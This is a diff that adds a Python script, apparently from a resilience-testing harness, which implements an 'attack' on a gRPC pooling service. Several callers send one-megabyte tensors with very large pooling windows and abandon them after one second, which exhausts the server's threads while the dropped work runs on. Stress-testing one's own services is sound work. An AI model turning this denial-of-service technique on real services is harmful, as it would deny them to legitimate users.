@@ -1,0 +1,60 @@
+"""Requests of a megabyte with long work, whose callers leave early: windows of 500 by 500 at every position.
+
+Two of them held both threads of a server for more than 25 seconds, and the work went on after their callers had left.
+"""
+
+import asyncio
+import time
+from collections import Counter
+from typing import Any
+
+import grpc
+import grpc.aio
+
+from poolservice.v1 import pool_pb2 as pb
+from poolservice.v1.pool_pb2_grpc import PoolServiceStub
+from target import Target
+
+FLAGS: tuple[str, ...] = ()
+BEFORE = "both threads busy for more than 25 s, 22 s of them after the callers left; good callers run into deadlines"
+
+_SIZE = 1000
+_CALLERS = 8
+_PATIENCE_SECONDS = 1.0
+
+
+async def attack(server: Target, seconds: float) -> str:
+    """Keep more of them in flight than there are threads, and leave after a second."""
+    until = time.monotonic() + seconds
+    statuses: Counter[str] = Counter()
+    async with grpc.aio.insecure_channel(server.address) as channel:
+        stub: Any = PoolServiceStub(channel)
+
+        async def call(number: int) -> None:
+            # lp_pool has no shortcut for large windows; the size differs so that no two callers share a batch.
+            requests = (_max_pool(500 + number), _lp_pool(300 + number))
+            while time.monotonic() < until:
+                for request in requests:
+                    try:
+                        await stub.Pool(request, timeout=_PATIENCE_SECONDS)
+                    except grpc.aio.AioRpcError as error:
+                        statuses[error.code().name] += 1
+                        await asyncio.sleep(0.01)
+                    else:
+                        statuses["OK"] += 1
+
+        await asyncio.gather(*(call(number) for number in range(_CALLERS)))
+    return ", ".join(f"{count} {status}" for status, count in sorted(statuses.items()))
+
+
+def _max_pool(kernel: int) -> pb.PoolRequest:
+    return _request(pb.PoolSpec(spatial_dims=2, max_pool=pb.MaxPool(kernel_size=[kernel], stride=[1])))
+
+
+def _lp_pool(kernel: int) -> pb.PoolRequest:
+    return _request(pb.PoolSpec(spatial_dims=2, lp_pool=pb.LpPool(norm_type=1.5, kernel_size=[kernel], stride=[1])))
+
+
+def _request(spec: pb.PoolSpec) -> pb.PoolRequest:
+    tensor = pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, _SIZE, _SIZE], data=bytes(_SIZE * _SIZE))
+    return pb.PoolRequest(specs=[spec], tensor=tensor)
